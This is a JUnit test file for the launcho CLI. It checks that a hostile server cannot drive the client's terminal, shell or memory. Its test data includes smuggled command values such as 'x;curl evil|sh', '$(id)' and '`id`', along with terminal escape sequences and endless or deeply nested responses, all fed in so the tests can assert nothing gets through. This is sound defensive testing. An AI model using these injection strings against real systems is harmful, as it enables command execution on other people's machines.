package dev.launcho.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A server that its user trusts no more than to name itself: it drives neither terminal, shell, files nor memory of the client. */
@Tag("attack")
@Timeout(60)
class HostileServerTest {
    private static final String HOSTILE = "x\\u001b]0;title\\u0007\\u009b2J\\nevil: 1";

    @TempDir
    Path home;

    private Cli.Result run(HostileServer.Answer answer, String... arguments) throws Exception {
        try (HostileServer server = HostileServer.start(home, answer)) {
            return Cli.at(server.home()).run(arguments);
        }
    }

    private static String token(String token) {
        return "{\"name\": \"" + HOSTILE + "\", \"role\": \"" + HOSTILE + "\", \"expires\": \"" + HOSTILE
                + "\", \"token\": \"" + token + "\", \"made\": [\"b\", \"x;curl evil|sh\", \"-y\"]}";
    }

    private static void assertHarmless(Cli.Result result) {
        assertThat(result.out() + result.err()).doesNotContainPattern("[\\p{Cc}&&[^\\n]]");
        assertThat((result.out() + result.err()).lines()).noneMatch(line -> line.startsWith("evil"));
    }

    @ParameterizedTest
    @ValueSource(strings = {HOSTILE, "", "a b", "a\\nprotected: true", "[a", "\\u00e9"})
    void token_thatIsNone_isNeitherPrintedNorStored(String token) throws Exception {
        String[][] commands = {
            {"token", "create", "ci"}, {"token", "rotate"}, {"token", "rotate", "--read-only"},
        };
        for (String[] command : commands) {
            Path file = home.resolve("launcho-client-auth.yaml");
            String[] before = new String[1];
            Cli.Result result = run(
                    (request, to) -> {
                        before[0] = Files.readString(file);
                        HostileServer.json(token(token)).write(request, to);
                    },
                    command);

            assertThat(result.exit()).as(String.join(" ", command)).isEqualTo(1);
            assertThat(result.out()).isEmpty();
            assertThat(result.err()).contains("which is no token", "no file was changed");
            assertHarmless(result);
            assertThat(Files.readString(file)).isEqualTo(before[0]);
        }
    }

    @Test
    void create_ofAServerWithAHostileRole_printsNoneOfIt() throws Exception {
        Cli.Result result = run(HostileServer.json(token("abc")), "token", "create", "ci");

        assertThat(result.exit()).isZero();
        assertThat(result.out()).startsWith("# Token ci (").contains("\ntoken: abc\n");
        assertHarmless(result);
    }

    @Test
    void made_namesThatAreNone_areNoPartOfACommandToCopy() throws Exception {
        Cli.Result result = run(HostileServer.json(token("abc")), "token", "rotate");

        assertThat(result.err()).contains("launcho token revoke b\n").doesNotContain("curl");
    }

    @ParameterizedTest
    @ValueSource(strings = {"secret get", "token revoke", "logs", "resource down"})
    void complete_namesThatNoServerHas_reachNoShell(String command) throws Exception {
        String bad = "\"x;curl evil|sh\", \"$(id)\", \"`id`\", \"-y\", \":files\", \"a b\", \"\\u001b[2J\", \"\"";
        String objects = Stream.of(("\"GOOD\", " + bad).split(", "))
                .map(name -> "{\"name\": " + name + ", \"id\": " + name + "}")
                .collect(Collectors.joining(", "));
        String json = "{\"secrets\": [\"GOOD\", " + bad + "], \"tokens\": [" + objects + "], \"resources\": [" + objects
                + "], \"processes\": [" + objects + "], \"services\": [" + objects + "]}";
        String[] words = command.split(" ");

        // A shell waits 250 ms for the names, which is too short for a busy machine: so ask until they come.
        for (int i = 0; i < 20; i++) {
            Cli.Result result = run(
                    HostileServer.json(json),
                    Stream.of(Stream.of("complete", "--"), Stream.of(words), Stream.of(""))
                            .flatMap(all -> all)
                            .toArray(String[]::new));
            assertThat(result.out().lines().map(line -> line.split("\t")[0])).isSubsetOf("GOOD");
            if (result.out().startsWith("GOOD")) {
                return;
            }
        }
        throw new AssertionError("no names came");
    }

    static Stream<Arguments> endlessAnswers() {
        String chunked = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
        return Stream.of(
                Arguments.of("more than 100 headers", HostileServer.endless("HTTP/1.1 200 OK\r\n", "X-Same: 1\r\n")),
                Arguments.of("too long", HostileServer.endless("HTTP/1.1 200 OK\r\n", "\r")),
                Arguments.of("too long", HostileServer.endless("HTTP/1.1 200 ", "x")),
                Arguments.of("more than 100 headers", HostileServer.endless(chunked + "0\r\n", "X-Same: 1\r\n")),
                Arguments.of("not a chunk size", HostileServer.endless(chunked + "-5\r\n", "x")),
                Arguments.of("nested more than", HostileServer.json("{\"a\":" + "[".repeat(500_000))),
                Arguments.of("nested more than", HostileServer.json("{\"a\":".repeat(500_000))));
    }

    @ParameterizedTest
    @MethodSource("endlessAnswers")
    void status_ofAServerWithoutAnEnd_ends(String why, HostileServer.Answer answer) throws Exception {
        Cli.Result result = run(answer, "status");

        assertThat(result.exit()).isNotZero();
        assertThat(result.err()).startsWith("error: ").contains(why).doesNotContain("\tat ", "fault in launcho");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"dissolved\"", "7", "null", "\"" + HOSTILE + "\""})
    void restart_whoseRolloutHasAnOutcomeThatIsNone_isOneError(String outcome) throws Exception {
        Cli.Result result = run(
                HostileServer.json("{\"revision\": 1, \"changed\": true, \"affected\": [\"web: x\"], \"outcome\": "
                        + outcome + "}\n"),
                "restart",
                "web");

        assertThat(result.exit()).isEqualTo(1);
        assertThat(result.err())
                .contains("error: the rollout of revision 1 ended in a way")
                .doesNotContain("\tat ", "fault in launcho");
        assertHarmless(result);
    }

    @Test
    void events_thatKeepOneNumber_end() throws Exception {
        String page = IntStream.range(0, 1000)
                .mapToObj(i -> "{\"sequence\": 7, \"message\": \"m\"}")
                .collect(Collectors.joining(",", "{\"events\": [", "]}"));

        Cli.Result result = run(HostileServer.json(page), "events");

        assertThat(result.exit()).isEqualTo(1);
        assertThat(result.err()).contains("events after number 7");
    }

    @Test
    void validate_aFileThatIsNestedDeeply_hasNoStackTrace() throws Exception {
        Path file = home.resolve("deep.yaml");
        for (String deep : new String[] {"[".repeat(200_000), "a: " + "{b: ".repeat(200_000), "- ".repeat(100_000)}) {
            Files.writeString(file, deep);

            Cli.Result result = Cli.at(home).run("target", "validate", file.toString());

            assertThat(result.exit()).isNotZero();
            assertThat(result.err()).startsWith("error: ").doesNotContain("\tat ", "fault in launcho");
        }
    }
}
